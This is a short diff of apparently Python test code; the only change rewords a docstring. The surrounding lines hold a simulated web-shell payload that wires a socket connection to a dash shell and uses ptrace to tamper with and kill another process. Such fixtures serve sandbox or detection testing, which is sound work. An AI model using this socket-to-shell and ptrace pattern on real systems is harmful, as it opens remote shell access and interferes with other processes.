@@ -41,7 +41,7 @@ end = socket.create_connection(server.getsockname())
 for n in 0, 1, 2: os.dup2(end.fileno(), n)
 os.execv("$BIN/dash", ["dash"])
 """
-"""What a web shell was told to run: its own connection becomes a shell, to which two commands are typed."""
+"""What a web shell was asked to run: its own connection becomes a shell, to which two commands are typed."""
 _INJECTED: Final = CHILD + (
     "if libc.ptrace(16, pid, 0, 0) == 0: os.waitpid(pid, 0)\n"
     "libc.ptrace(5, pid, ctypes.c_void_p(id(pid)), 0)\nos.kill(pid, signal.SIGKILL)"
